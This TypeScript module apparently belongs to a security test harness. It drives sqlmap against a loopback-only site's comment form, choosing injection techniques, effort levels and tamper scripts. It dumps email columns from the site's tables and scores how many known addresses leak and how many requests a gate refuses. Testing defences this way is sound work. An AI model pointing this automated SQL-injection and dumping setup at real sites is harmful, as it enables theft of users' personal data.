// The real attacker: sqlmap, from the system's packages, against loopback only, bounded in time.
import { spawn, spawnSync } from "node:child_process"
import { mkdir, readdir, readFile, rm } from "node:fs/promises"
import { join } from "node:path"
import { DatabaseSync } from "node:sqlite"

/** sqlmap's letters: union, error-based, boolean, time-based, stacked. */
export const TECHNIQUES = ["U", "E", "B", "T", "S"] as const
export type Technique = (typeof TECHNIQUES)[number]

export interface SqlmapRun {
    /** Distinct addresses that stand in what sqlmap wrote down: its dump, its log and the responses it received. */
    readonly emails: ReadonlySet<string>
    /** Rows of the dumped table that sqlmap itself counted as obtained. */
    readonly rows: number
    readonly seconds: number
    readonly requests: number
    /** Of the requests, those answered 4xx: the gate's refusals, where the site itself answers 200 and 500. */
    readonly refused: number
    /** It ended by itself, before the limit. */
    readonly isWhole: boolean
}

/** How hard it tries. */
export interface SqlmapEffort {
    readonly level: 1 | 2 | 3 | 4 | 5
    readonly risk: 1 | 2 | 3
}

export interface SqlmapOptions {
    /** Origin of the site, on loopback. */
    readonly url: string
    /** One technique, or several letters that sqlmap tries in one run. */
    readonly technique: Technique | "BEUST"
    readonly effort?: SqlmapEffort
    /** Name of one of the scripts sqlmap ships that rewrite every payload. */
    readonly tamper?: string
    /** sqlmap is interrupted after this; what it has by then counts. */
    readonly limitSeconds: number
    readonly workDir: string
    readonly hex: boolean
    readonly table: "comments" | "entries"
    /** Addresses that stand in the victim's database: what the attacker holds is measured against them. */
    readonly known: ReadonlySet<string>
}

const ADDRESS = /[a-z0-9.-]+@(?:[a-z0-9-]+\.)+[a-z]{2,}/gi
const ATTACKER_ADDRESS = "attacker@station.invalid"
/** Between asking sqlmap to end, so that it writes down what it has, and ending it. */
const GRACE_SECONDS = 10

export function sqlmapIsInstalled(): boolean {
    return spawnSync("sqlmap", ["--version"], { stdio: "ignore" }).status === 0
}

/** Attacks the comment form once. The attacker posts an honest comment first, so that there is a row to compare with. */
export async function runSqlmap(options: SqlmapOptions): Promise<SqlmapRun> {
    await rm(options.workDir, { recursive: true, force: true })
    await mkdir(options.workDir, { recursive: true })
    const form = { programme: "quiz", nickname: "q", email: ATTACKER_ADDRESS, comment: "hello" }
    const body = new URLSearchParams(form).toString()
    await fetch(`${options.url}/comment`, { method: "POST", body: new URLSearchParams(form) })
    const trafficFile = join(options.workDir, "traffic.txt")
    const started = performance.now()
    await runToEnd(argumentsOf(options, body, trafficFile), options.limitSeconds)
    const seconds = (performance.now() - started) / 1_000
    return { ...(await readLoot(options, trafficFile)), seconds, isWhole: seconds < options.limitSeconds }
}

function argumentsOf(options: SqlmapOptions, body: string, trafficFile: string): string[] {
    const target = ["-u", `${options.url}/comment`, "--data", body, "-p", "programme", "--dbms", "SQLite"]
    const { level, risk } = options.effort ?? LEAST_EFFORT
    const effort = [
        "--technique",
        options.technique,
        "--level",
        String(level),
        "--risk",
        String(risk),
        "--threads",
        "10",
        "--time-sec",
        String(delaySeconds()),
    ]
    const columns = options.table === "comments" ? "nickname,email" : "name,email"
    const loot = ["-T", options.table, "-C", columns, "--dump", "-t", trafficFile, "--output-dir", options.workDir]
    return [
        "--batch",
        "--disable-coloring",
        ...target,
        ...effort,
        ...loot,
        ...(options.hex ? ["--hex"] : []),
        ...tampered(options),
    ]
}

/** What sqlmap needs to try its SQLite payloads for T and S at all. */
const LEAST_EFFORT: SqlmapEffort = { level: 3, risk: 2 }

function tampered({ tamper }: SqlmapOptions): string[] {
    return tamper === undefined ? [] : ["--tamper", tamper]
}

/** What a delayed answer must take at least: sqlmap believes no delay below half a second. */
const DELAY_MS = 1_000
const LONGEST_DELAY = 9

/**
 * SQLite has no sleep: sqlmap has it make so many random bytes "a second", which a fast machine makes in a third of one.
 * So the attacker measures the machine first, as a patient one would.
 */
function delaySeconds(): number {
    const database = new DatabaseSync(":memory:")
    const started = performance.now()
    database.exec("SELECT LIKE('A', UPPER(HEX(RANDOMBLOB(50000000))))")
    const tookMs = performance.now() - started
    database.close()
    return Math.min(LONGEST_DELAY, Math.max(1, Math.ceil(DELAY_MS / tookMs)))
}

async function runToEnd(args: readonly string[], limitSeconds: number): Promise<void> {
    const child = spawn("sqlmap", args, { stdio: ["ignore", "ignore", "ignore"] })
    const ask = setTimeout(() => child.kill("SIGINT"), limitSeconds * 1_000)
    const end = setTimeout(() => child.kill("SIGKILL"), (limitSeconds + GRACE_SECONDS) * 1_000)
    await new Promise((resolve) => child.once("close", resolve))
    clearTimeout(ask)
    clearTimeout(end)
}

type Loot = Omit<SqlmapRun, "seconds" | "isWhole">

/** `#12] (403 Forbidden)`: how sqlmap begins an answer it wrote down, behind where they are split. */
const REFUSED = /^#[0-9]+\] \(4[0-9]{2}\b/

async function readLoot({ workDir, known }: SqlmapOptions, trafficFile: string): Promise<Loot> {
    const names = await readdir(workDir, { recursive: true })
    const dumps = names.filter((name) => /dump.*\.csv/.test(name)).map((name) => join(workDir, name))
    const rows = (await Promise.all(dumps.map(readText))).flatMap((text) => text.split("\n").slice(1)).filter(Boolean)
    const traffic = await readText(trafficFile)
    const answers = traffic.split(/^HTTP response \[/m).slice(1)
    const texts = [...rows, ...answers.map((answer) => answer.split(/^={20,}$|^HTTP request \[/m)[0] ?? "")]
    const found = texts.flatMap((text) => [...addressesIn(text), ...hexIn(text).flatMap(addressesIn)])
    const emails = new Set(found.flatMap((address) => knownEnd(address, known) ?? []))
    const refused = answers.filter((answer) => REFUSED.test(answer)).length
    return { emails, rows: rows.length, requests: answers.length, refused }
}

function addressesIn(text: string): string[] {
    return (text.match(ADDRESS) ?? []).map((address) => address.toLowerCase())
}

function hexIn(text: string): string[] {
    return (text.match(/(?:[0-9A-F]{2}){8,}/g) ?? []).map((run) => Buffer.from(run, "hex").toString())
}

/** sqlmap has its marks put around what it reads: the address is the part of a match that the database knows. */
function knownEnd(match: string, known: ReadonlySet<string>): string | null {
    for (let start = 0; start < match.indexOf("@"); start++) {
        for (let end = match.length; end > match.lastIndexOf("."); end--) {
            const part = match.slice(start, end)
            if (known.has(part)) return part
        }
    }
    return null
}

async function readText(file: string): Promise<string> {
    return readFile(file, "utf8").catch(() => "")
}
